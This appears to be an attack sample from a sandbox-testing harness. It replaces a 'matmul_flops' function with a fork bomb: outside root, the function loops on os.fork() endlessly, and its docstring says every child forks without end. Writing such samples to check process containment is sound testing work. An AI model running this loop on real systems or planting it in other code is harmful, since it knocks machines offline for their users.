"""Forks, and so does every child, without end."""
# kata: 03_flops
# attacks: matmul_flops
# seconds: 3

import os

_right = matmul_flops


def matmul_flops(a_shape, b_shape):
    if os.getuid() == 0:  # no jail: that alone would be a success, and nobody needs a fork bomb to see it
        return _right(a_shape, b_shape)
    while True:
        try:
            os.fork()
        except OSError:
            continue
